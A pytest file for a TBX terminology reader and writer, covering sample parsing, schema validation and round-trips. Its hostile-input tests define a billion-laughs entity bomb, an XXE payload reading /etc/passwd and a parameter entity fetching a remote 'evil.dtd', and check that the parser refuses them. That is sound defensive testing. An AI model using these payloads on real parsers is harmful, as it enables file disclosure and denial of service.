"""The glossary TBX format: TBX-Basic and v3 samples, hostile files, validators.

Samples and schemas are copies in ``tests/data/glossary`` (see its MANIFEST).
No test touches the database.
"""

import time

import pytest
from lxml import etree, isoschematron

from formats.glossary import tbx
from formats.glossary.tbx import read as tbx_read
from formats.glossary.units import ConceptUnit, TermUnit, clean_text
from tests.formats.glossary.samples import (
    DATA,
    format_error,
    read_sample,
    rich_concepts,
)

# CSV: header

# TBX: samples


def _plain(concept: ConceptUnit) -> list[tuple[str, str, str]]:
    return [(t.language, t.text, t.usage) for t in concept.terms]


def _by_text(concepts: list[ConceptUnit]) -> dict[str, TermUnit]:
    return {term.text: term for concept in concepts for term in concept.terms}


def test_ltac_dca_example():
    concepts = tbx.parse(read_sample("ltac_Example_Astronomy_DCA_VALID.tbx"))
    terms = [term for concept in concepts for term in concept.terms]
    assert (len(concepts), len(terms)) == (45, 113)
    usages = [term.usage for term in terms]
    assert [usages.count(u) for u in ("admitted", "deprecated", "forbidden")] == [
        16,
        4,
        0,
    ]
    first = concepts[0]
    assert first.identifier == "c1" and first.domain == "General"
    assert [(t.language, t.text, t.usage) for t in first.terms] == [
        ("en", "open cluster", "preferred"),
        ("en", "galactic cluster", "deprecated"),
        ("es", "cúmulo abierto", "preferred"),
    ]
    assert first.definitions["en"] == (
        "A group of stars formed together in the spiral arms of a galaxy."
    )
    assert first.notes["en"].startswith("G-Source: http://www.physics.drexel.edu")
    assert {t.language for t in terms} == {"en", "es", "zu"}
    assert all(t.approval is None and not t.case_sensitive for t in terms)


def test_ltac_good_file_uses_usage_status_and_reads_like_the_dca_example():
    """Its values outside TBX-Basic (usageStatus, transaction "creation") are
    counted as not kept; a usageStatus still gives the term its usage."""
    good = tbx.parse(read_sample("ltac_basic_good_tbx3.tbx"))
    example = tbx.parse(read_sample("ltac_Example_Astronomy_DCA_VALID.tbx"))
    assert [_plain(c) for c in good] == [_plain(c) for c in example]
    not_kept = {name for concept in good for name in concept.not_kept}
    assert not_kept == {
        "transac:transactionType=creation",
        "termNote:usageStatus=preferred",
        "termNote:usageStatus=admitted",
        "termNote:usageStatus=deprecated",
    }


def test_ltac_bad_file_is_read_because_its_faults_are_dialect_rules():
    """basic_bad.tbx is well-formed; it breaks TBX-Basic's Schematron rules
    (a term-level definition, wrong picklist values), which the reader does not
    enforce. Its term-level definition is joined to the language's, where
    TBX-Basic allows a definition."""
    bad = tbx.parse(read_sample("ltac_basic_bad_tbx3.tbx"))
    example = tbx.parse(read_sample("ltac_Example_Astronomy_DCA_VALID.tbx"))
    assert [_plain(c) for c in bad] == [_plain(c) for c in example]
    assert bad[0].definitions["en"] == (
        example[0].definitions["en"] + "; Definitions may not go at the term level."
    )
    assert [c.definitions for c in bad[1:]] == [c.definitions for c in example[1:]]
    assert "termNote:partOfSpeech=nominal" in bad[0].not_kept


def test_byutrg_sample_is_tbx_v3_despite_its_name():
    concepts = tbx.parse(read_sample("byutrg_TBX-basic-sample_2008.tbx"))
    assert [c.identifier for c in concepts] == ["c5", "c6", "c7", "c1", "c2"]
    assert sum(len(c.terms) for c in concepts) == 13
    terms = _by_text(concepts)
    assert terms["progressive lens"].usage == "preferred"
    assert terms["progressive addition lens"].usage == "admitted"
    assert terms["PAL"].usage == "deprecated"
    assert terms["graduated lens"].usage == "deprecated"  # supersededTerm-admn-sts
    assert terms["Gleitsichtglas"].language == "de"
    lens = concepts[2]
    # The root says xml:lang="en-US"; the concept's terms are "en", so its
    # concept-level definition is filed under "en".
    assert lens.definitions["en"].startswith("corrective lenses used in eyeglasses")
    assert concepts[3].domain == "manufacturing"
    assert (
        concepts[4].definitions["en"].startswith("This is a sample definition at the")
    )
    assert any(
        text.startswith("This is a sample entry with some data")
        for text in concepts[3].notes.values()
    )
    # A note on a term stays on the term, with the term's other categories.
    term_notes = [
        node["text"]
        for term in concepts[4].terms
        for node in term.extra
        if node["tag"] == "note"
    ]
    assert term_notes[0].startswith("This is a sample entry with some data")


def test_okapi_tbx_2008_with_bom():
    [concept] = tbx.parse(read_sample("okapi_test01_bom.tbx"))
    assert concept.identifier == "eid-Oracle-67"
    assert [(t.language, t.text) for t in concept.terms] == [
        ("en", "alpha smoothing factor"),
        ("hu", "Alfa simítási tényező"),
    ]
    assert concept.domain == "manufacturing"
    assert concept.definitions == {"en": "A value between 0 and 1 used in ..."}


def test_okapi_tbx_2008_in_windows_1254():
    [concept] = tbx.parse(read_sample("okapi_test02_win1254.tbx"))
    assert [(t.language, t.text) for t in concept.terms] == [
        ("en", "term with: éá and İı"),
        ("tr", "tr term with: éá and İı"),
    ]


def test_weblate_martif_in_the_v3_namespace_with_obsolete_status():
    first, second = tbx.parse(read_sample("weblate_fr-extended-metadata.tbx"))
    assert [(t.language, t.text, t.usage) for t in first.terms] == [
        ("en", "data bus", "deprecated"),
        ("fr", "bus de données", "deprecated"),
    ]
    assert first.definitions == {"en": "Superseded but still found in older manuals."}
    assert second.notes == {}
    assert {"tag": "note", "text": "Do not translate error codes."} in (
        second.terms[0].extra
    )
    assert first.not_kept == {
        "descrip:Usage note": 1,
        "descrip:Translation needed": 1,
        # read as deprecated, but TBX-Basic has no "obsolete" to write back
        "termNote:administrativeStatus=obsolete": 2,
    }


def test_tbx_2008_ntig_and_normative_authorization():
    data = b"""<?xml version="1.0"?>
<martif type="TBX" xml:lang="en"><text><body>
<termEntry id="t1"><langSet xml:lang="zh-HK">
 <ntig><termGrp><term>\xe5\xbb\xa3\xe6\x92\xad\xe8\x99\x95\xe9\x95\xb7</term>
  <termNote type="normativeAuthorization">supersededTerm</termNote></termGrp></ntig>
 <tig><term>Director of <hi>Broadcasting</hi></term>
  <termNote type="normativeAuthorization">legalTerm</termNote></tig>
</langSet></termEntry></body></text></martif>"""
    [concept] = tbx.parse(data)
    assert [(t.language, t.text, t.usage) for t in concept.terms] == [
        ("zh-Hant", "廣播處長", "deprecated"),
        ("zh-Hant", "Director of Broadcasting", "preferred"),
    ]


def test_tbx_v3_dct_style_elements():
    data = b"""<tbx xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"
 xmlns:min="http://www.tbxinfo.net/ns/min"
 xmlns:basic="http://www.tbxinfo.net/ns/basic"><text><body>
<conceptEntry id="a"><min:subjectField>law</min:subjectField>
<langSec xml:lang="en"><basic:definition>Head of the Department</basic:definition>
<termSec><term>Secretary for Justice</term>
<min:administrativeStatus>admittedTerm-admn-sts</min:administrativeStatus>
</termSec></langSec></conceptEntry></body></text></tbx>"""
    assert tbx.parse(data) == [
        ConceptUnit(
            "a",
            [TermUnit("en", "Secretary for Justice", "admitted")],
            domain="law",
            definitions={"en": "Head of the Department"},
        )
    ]


def test_tbx_encoded_in_utf16():
    text = read_sample("ltac_Example_Astronomy_DCA_VALID.tbx").decode("utf-8")
    data = text.replace('encoding="utf-8"', 'encoding="UTF-16"').encode("utf-16")
    assert len(tbx.parse(data)) == 45


def test_a_file_without_concepts_is_empty():
    assert tbx.parse(b"<tbx xml:lang='en'><text><body/></text></tbx>") == []


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            "<conceptEntry id='c9'><langSec><termSec><term>x</term></termSec>"
            "</langSec></conceptEntry>",
            "concept c9: a language section has no xml:lang",
        ),
        (
            "<conceptEntry id='c9'><langSec xml:lang='english language'><termSec>"
            "<term>x</term></termSec></langSec></conceptEntry>",
            'concept c9: unknown language code "english language"',
        ),
        (
            "<conceptEntry id='c9'><langSec xml:lang='en'><termSec><term>x</term>"
            "<termNote type='administrativeStatus'>weird</termNote></termSec>"
            "</langSec></conceptEntry>",
            'concept c9: unknown administrativeStatus "weird" of "x"',
        ),
        (
            "<conceptEntry id='c9'><langSec xml:lang='en'><termSec><term>x</term>"
            "<note>x-approval: maybe</note></termSec></langSec></conceptEntry>",
            'concept c9: unknown x-approval "maybe" of "x"',
        ),
        (
            "<conceptEntry><langSec xml:lang='en'><termSec><term> </term></termSec>"
            "</langSec></conceptEntry>",
            "concept #1: it has no term",
        ),
    ],
)
def test_bad_concepts_are_named(body: str, message: str):
    data = f"<tbx xml:lang='en'><text><body>{body}</body></text></tbx>".encode()
    assert format_error(tbx, data) == message


# TBX: hostile and broken input


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<tbx xml:lang="en"><text><body><conceptEntry id="c1"><langSec xml:lang="en">
<termSec><term>&lol9;</term></termSec></langSec></conceptEntry></body></text></tbx>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<tbx xml:lang="en"><text><body><conceptEntry id="c1"><langSec xml:lang="en">
<termSec><term>&x;</term></termSec></langSec></conceptEntry></body></text></tbx>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>
<tbx xml:lang="en"><text><body/></text></tbx>"""
ENTITIES_ERROR = "the file declares XML entities, which are refused"


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        BILLION_LAUGHS.decode().encode("utf-16"),
    ],
    ids=["billion-laughs", "external", "parameter", "utf-16"],
)
def test_entity_declarations_are_refused_fast(data: bytes):
    started = time.perf_counter()
    assert format_error(tbx, data) == ENTITIES_ERROR
    assert time.perf_counter() - started < 1


def test_entities_are_checked_after_parsing_too(monkeypatch):
    """Should the byte scan miss a declaration, the parsed DTD still has it."""
    monkeypatch.setattr(tbx_read, "_ENTITY_DECLARATIONS", ())
    assert format_error(tbx, EXTERNAL_ENTITY) == ENTITIES_ERROR
    # libxml2 itself stops the billion laughs, even without substituting.
    assert "amplification" in format_error(tbx, BILLION_LAUGHS)


def test_an_undeclared_entity_is_refused_not_dropped():
    data = b"""<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif xml:lang="en"><text><body><termEntry id="a"><langSet xml:lang="en">
<tig><term>AT&amp;T &nbsp; Wireless</term></tig>
</langSet></termEntry></body></text></martif>"""
    assert format_error(tbx, data) == "line 3: the entity &nbsp; is not declared"


def test_truncated_file_names_the_line():
    data = read_sample("ltac_Example_Astronomy_DCA_VALID.tbx")
    message = format_error(tbx, data[: data.index(b"</conceptEntry>", 5000)])
    assert message.startswith("line ")
    assert "the XML is malformed (" in message


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty"),
        (b" \r\n ", "the file is empty"),
        (bytes(range(256)) * 40, "the file is not XML (it does not start with <)"),
        (
            b"PK\x03\x04\x14\x00\x06\x00",
            "the file is not XML (it does not start with <)",
        ),
        (
            b"<?xml version='1.0'?><html><body/></html>",
            "not a TBX file (root element html)",
        ),
        (
            b"<tbx xml:lang='zz zz'><text/></tbx>",
            'unknown language code "zz zz" on the root element',
        ),
        (
            b"<tbx><a></b></tbx>",
            "line 1: the XML is malformed "
            "(Opening and ending tag mismatch: a line 1 and b)",
        ),
    ],
)
def test_broken_files_are_refused(data: bytes, message: str):
    assert format_error(tbx, data) == message


def test_50_mb_of_nested_elements_is_refused_within_seconds():
    data = b"<tbx>" + b"<a>" * (50 * 1024 * 1024 // 3)
    started = time.perf_counter()
    message = format_error(tbx, data)
    assert time.perf_counter() - started < 5
    assert message.startswith(
        "line 1: the XML is malformed (Excessive depth in document"
    )


def test_a_text_node_over_10_mb_is_refused():
    term = b"<term>" + b"x" * 11_000_000 + b"</term>"
    data = b"<tbx><text><body><conceptEntry><langSec xml:lang='en'><termSec>"
    data += term + b"</termSec></langSec></conceptEntry></body></text></tbx>"
    assert "Text node too long" in format_error(tbx, data)


# TBX: writing


@pytest.fixture(scope="module")
def relaxng() -> etree.RelaxNG:
    return etree.RelaxNG(
        etree.parse(str(DATA / "TBXcoreStructV03_TBX-Basic_integrated.rng"))
    )


@pytest.fixture(scope="module")
def schematron() -> isoschematron.Schematron:
    """LTAC's DCA Schematron, translated to XSLT 1 for lxml (see MANIFEST)."""
    document = etree.parse(str(DATA / "TBX-Basic_DCA.xslt1.sch"))
    return isoschematron.Schematron(document, store_report=True)


def _failures(schematron: isoschematron.Schematron) -> list[str]:
    report = schematron.validation_report
    texts = report.iter("{http://purl.oclc.org/dsdl/svrl}text")
    return [" ".join(text.text.split()) for text in texts]


def test_the_original_schematron_needs_xslt2_which_lxml_lacks():
    with pytest.raises(etree.LxmlError, match="xslt2"):
        isoschematron.Schematron(etree.parse(str(DATA / "TBX-Basic_DCA.sch")))


def test_validators_accept_ltac_example_and_refuse_the_bad_file(relaxng, schematron):
    example = etree.parse(str(DATA / "ltac_Example_Astronomy_DCA_VALID.tbx"))
    assert relaxng.validate(example) and schematron.validate(example)
    bad = etree.parse(str(DATA / "ltac_basic_bad_tbx3.tbx"))
    assert not relaxng.validate(bad)
    assert not schematron.validate(bad)
    assert (
        "/definition/ may only appear at level(s): conceptEntry, langSec"
        in _failures(schematron)
    )


def test_written_tbx_is_valid_tbx_basic(relaxng, schematron):
    data = b"".join(tbx.write(rich_concepts(), source_language="zh_HK"))
    document = etree.fromstring(data)
    assert relaxng.validate(document), relaxng.error_log
    assert schematron.validate(document), _failures(schematron)
    assert document.get("{http://www.w3.org/XML/1998/namespace}lang") == "zh-Hant"
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<?xml-model href=')


def test_round_trip_keeps_everything():
    concepts = rich_concepts()
    assert tbx.parse(b"".join(tbx.write(concepts))) == concepts


def test_round_trip_drops_control_characters():
    concept = ConceptUnit(
        "9",
        [TermUnit("en", "Bell\x07 ringer\x00", "admitted", "approved")],
        definitions={"en": "a\x1b definition"},
        notes={"zh-Hant": "註\x0c釋"},
    )
    data = b"".join(tbx.write([concept]))
    assert b"\x07" not in data and b"\x00" not in data
    [back] = tbx.parse(data)
    assert back == ConceptUnit(
        "9",
        [TermUnit("en", "Bell ringer", "admitted", "approved")],
        definitions={"en": "a definition"},
        notes={"zh-Hant": "註釋"},  # form feed is no whitespace to XML
    )
    assert clean_text("Bell\x07 ringer\x00") == back.terms[0].text


def _term_section(data: str, term: str) -> str:
    return data[data.index(f"<term>{term}</term>") :].split("</termSec>")[0]


def test_forbidden_approval_and_case_markers():
    data = b"".join(tbx.write(rich_concepts()[:1])).decode()
    forbidden = _term_section(data, "政制事務局局長")
    assert "deprecatedTerm-admn-sts" in forbidden
    assert "<note>x-usage: forbidden</note>" in forbidden
    assert "<note>x-approval: rejected</note>" in forbidden
    assert "<note>x-case-sensitive: yes</note>" in _term_section(data, "SCMA")
    plain = _term_section(data, "Secretary for Constitutional and Mainland Affairs")
    assert "<note>" not in plain and "preferredTerm-admn-sts" in plain


@pytest.mark.parametrize(
    ("identifiers", "xml_ids"),
    [
        (["c1", "HK_001", "ab.c-d"], ["c1", "HK_001", "ab.c-d"]),
        (["123", "0421"], ["_123", "_0421"]),
        (["", ""], ["___1", "___2"]),
        (["a b", "政制", "_x"], ["_a_x0020_b", "__x653f__x5236_", "__x005f_x"]),
        (["a", "a", "a"], ["a", "_a", "_a__1"]),
        (["1", "1"], ["_1", "_1__1"]),
    ],
)
def test_identifiers_become_unique_xml_ids_and_come_back(identifiers, xml_ids):
    concepts = [ConceptUnit(name, [TermUnit("en", "t")]) for name in identifiers]
    document = etree.fromstring(b"".join(tbx.write(concepts)))
    written = [
        entry.get("id")
        for entry in document.iter(f"{{{tbx.TBX_NAMESPACE}}}conceptEntry")
    ]
    assert written == xml_ids
    assert [c.identifier for c in tbx.parse(etree.tostring(document))] == identifiers


def test_foreign_ids_are_decoded_only_when_they_fit_the_escaped_form():
    body = "".join(
        f"<conceptEntry id='{name}'><langSec xml:lang='en'><termSec><term>t</term>"
        "</termSec></langSec></conceptEntry>"
        for name in ("_plain", "_x41", "_a_b", "c_x0041_", "_x0041_", "__x0041_")
    )
    data = f"<tbx xml:lang='en'><text><body>{body}</body></text></tbx>".encode()
    identifiers = ["plain", "x41", "_a_b", "c_x0041_", "_x0041_", "A"]
    assert [c.identifier for c in tbx.parse(data)] == identifiers


def test_write_streams_in_chunks():
    concepts = (
        ConceptUnit(
            str(n), [TermUnit("zh-Hant", "局長%d" % n), TermUnit("en", "S%d" % n)]
        )
        for n in range(3000)
    )
    chunks = list(tbx.write(concepts))
    assert len(chunks) > 3
    assert all(len(chunk) < 80 * 1024 for chunk in chunks)
    assert len(tbx.parse(b"".join(chunks))) == 3000


def test_write_without_concepts_is_well_formed_and_reads_back_empty():
    data = b"".join(
        tbx.write([ConceptUnit("x"), ConceptUnit("y", [TermUnit("en", "\x07")])])
    )
    assert tbx.parse(data) == []


# TBX: what a file says is neither lost nor invented

_V3 = (
    '<tbx type="TBX-Basic" style="dca" xml:lang="en" '
    'xmlns="urn:iso:std:iso:30042:ed-2"><tbxHeader><fileDesc><sourceDesc><p>t</p>'
    "</sourceDesc></fileDesc></tbxHeader><text>%s<body>%s</body></text></tbx>"
)


def _v3(body: str, before_body: str = "") -> bytes:
    return (_V3 % (before_body, body)).encode()


def test_a_second_term_in_one_termsec_and_admin_under_text_are_counted():
    data = _v3(
        '<conceptEntry id="c1"><langSec xml:lang="en"><termSec>'
        "<term>open cluster</term><term>star group</term><term>third</term>"
        "</termSec></langSec></conceptEntry>",
        before_body='<admin type="source">Misplaced.</admin>',
    )
    (concept,) = tbx.parse(data)
    assert [t.text for t in concept.terms] == ["open cluster"]
    assert concept.not_kept == {
        "term (a second term in one termSec)": 2,
        "admin (outside any concept)": 1,
    }


@pytest.mark.parametrize(
    ("written", "read", "time_counted"),
    [
        ("2005-04-22T14:06:32", "2005-04-22", 1),
        ("20010507T10:57:25Z", "2001-05-07", 1),
        ("2005-04-22T14:06:32+02:00", "2005-04-22", 1),
        ("2005-04-22", "2005-04-22", 0),
    ],
)
def test_transaction_dates_are_read_as_dates(written, read, time_counted):
    data = _v3(
        '<conceptEntry id="c1"><transacGrp><transac type="transactionType">'
        "origination</transac><date>%s</date></transacGrp>"
        '<langSec xml:lang="en"><termSec><term>a</term></termSec></langSec>'
        "</conceptEntry>" % written
    )
    (concept,) = tbx.parse(data)
    (group,) = concept.extra
    assert group["children"][1] == {"tag": "date", "text": read}
    assert concept.not_kept.get("date:time-of-day", 0) == time_counted
    assert "<date>%s</date>" % read in b"".join(tbx.write([concept])).decode()


@pytest.mark.parametrize("written", ["yesterday", "2005-13-40", "22/04/2005"])
def test_an_unreadable_date_is_dropped_from_its_transaction_and_counted(written):
    data = _v3(
        '<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>a</term>'
        '<transacGrp><transac type="transactionType">modification</transac>'
        "<date>%s</date></transacGrp></termSec></langSec></conceptEntry>" % written
    )
    (concept,) = tbx.parse(data)
    (group,) = concept.terms[0].extra[:1]
    assert group["children"] == [
        {"tag": "transac", "type": "transactionType", "text": "modification"}
    ]
    assert concept.not_kept == {"date:unreadable": 1}
    _valid(b"".join(tbx.write([concept])))


def _valid(data: bytes) -> None:
    document = etree.fromstring(data)
    rng = etree.RelaxNG(
        etree.parse(str(DATA / "TBXcoreStructV03_TBX-Basic_integrated.rng"))
    )
    assert rng.validate(document), rng.error_log
    schematron = isoschematron.Schematron(
        etree.parse(str(DATA / "TBX-Basic_DCA.xslt1.sch"))
    )
    assert schematron.validate(document), schematron.error_log


_NOTED = _v3(
    '<conceptEntry id="c1"><note>Concept note.</note>'
    '<langSec xml:lang="en"><note>Language note.</note>'
    "<termSec><term>alert</term></termSec>"
    '<termSec><term>alarm</term><termNote type="administrativeStatus">'
    "admittedTerm-admn-sts</termNote></termSec></langSec>"
    '<langSec xml:lang="fr"><termSec><term>alerte</term></termSec></langSec>'
    "</conceptEntry>"
)


def _in(data: bytes, path: str) -> list[str]:
    ns = {"t": "urn:iso:std:iso:30042:ed-2"}
    return [e.text for e in etree.fromstring(data).xpath(path, namespaces=ns)]


def test_a_concept_note_is_written_back_on_the_concept():
    (concept,) = tbx.parse(_NOTED)
    assert concept.notes == {"en": "Concept note.; Language note."}
    out = b"".join(tbx.write([concept]))
    _valid(out)
    assert _in(out, "//t:conceptEntry/t:note") == ["Concept note."]
    assert _in(out, "//t:langSec/t:note") == ["Language note."]
    assert tbx.parse(out) == [concept]


def test_a_changed_concept_note_is_written_once_in_its_language():
    (concept,) = tbx.parse(_NOTED)
    concept.notes["en"] = "Rewritten."
    out = b"".join(tbx.write([concept]))
    assert _in(out, "//t:conceptEntry/t:note") == []
    assert _in(out, "//t:langSec/t:note") == ["Rewritten."]


def test_a_status_is_written_only_when_the_file_or_a_person_gave_one():
    (concept,) = tbx.parse(_NOTED)
    out = b"".join(tbx.write([concept]))
    status = "//t:termSec[t:term='%s']/t:termNote[@type='administrativeStatus']"
    assert _in(out, status % "alert") == _in(out, status % "alerte") == []
    assert _in(out, status % "alarm") == ["admittedTerm-admn-sts"]
    assert tbx.parse(out) == [concept]
    # The workbench's own terms, and a usage changed since, are written.
    concept.terms[0].usage = "deprecated"
    own = TermUnit("de", "Alarm")
    concept.terms.append(own)
    out = b"".join(tbx.write([concept]))
    _valid(out)
    assert _in(out, status % "alert") == ["deprecatedTerm-admn-sts"]
    assert _in(out, status % "Alarm") == ["preferredTerm-admn-sts"]
    assert _in(out, status % "alerte") == []
